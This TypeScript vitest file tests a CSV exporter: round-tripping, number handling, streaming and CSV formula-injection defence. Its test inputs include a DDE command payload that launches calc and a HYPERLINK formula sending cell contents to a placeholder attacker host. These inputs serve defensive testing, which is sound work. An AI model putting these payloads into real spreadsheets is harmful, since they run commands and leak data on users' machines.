import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type Cell, csvRow, csvStream, csvTable } from './csv';

const read = (text: string): string[][] => parse(text, { bom: true });
const only = (cell: Cell) => read(csvRow([cell, 'next']))[0]?.[0];

describe('a table for spreadsheets', () => {
  it('is read back as it was written: quotes, commas, line ends, Korean', () => {
    const rows = [
      ['그늘막, 놓아 주세요', 'He said "yes"'],
      ['두 줄\n글', ''],
    ];
    const text = csvTable(['제목', '글'], rows);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(read(text)).toEqual([['제목', '글'], ...rows]);
  });

  it('keeps numbers as numbers, also below zero, and days as days', () => {
    expect(csvRow([-5, 0.5, Number.NaN, true, null, new Date('2026-11-23T01:00:00Z')])).toBe(
      '-5,0.5,,"true","","2026-11-23T01:00:00.000Z"\r\n',
    );
    expect(only('2026-11-23')).toBe('2026-11-23');
    expect(only('A-1 + B')).toBe('A-1 + B');
  });
});

describe('a formula', () => {
  it.each([
    '=1+1',
    '+82',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '\u0000=1+1',
  ])('%j is text', (typed) => {
    expect(only(typed)?.startsWith("'")).toBe(true);
  });

  it.each(['a;=1+1', 'a,=1+1', 'a|=1', 'a\t=1+1', 'a\n@A1', 'a"=1+1', 'a"; =1+1', "a';+1", 'a,－1'])(
    '%j stays text where another sign ends a cell',
    (typed) => {
      const row = csvRow([typed]);
      for (const sign of [',', ';', '|', '\t', '"', '\n'])
        for (const part of row.slice(1, -3).split(sign)) expect(part).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
    },
  );
});

describe('a long table', () => {
  it('comes in parts, whole, and its source is closed when nobody reads on', async () => {
    let [made, closed] = [0, false];
    async function* rows() {
      try {
        for (let n = 0; n < 20_000; n += 1) {
          made += 1;
          yield [n, '가나다라마바사'];
        }
      } finally {
        closed = true;
      }
    }
    const text = await new Response(csvStream(['n', 'text'], rows())).text();
    expect(read(text)).toHaveLength(20_001);
    [made, closed] = [0, false];
    const reader = csvStream(['n', 'text'], rows()).getReader();
    await reader.read();
    await reader.cancel();
    expect(made).toBeLessThan(10_000);
    expect(closed).toBe(true);
  });
});
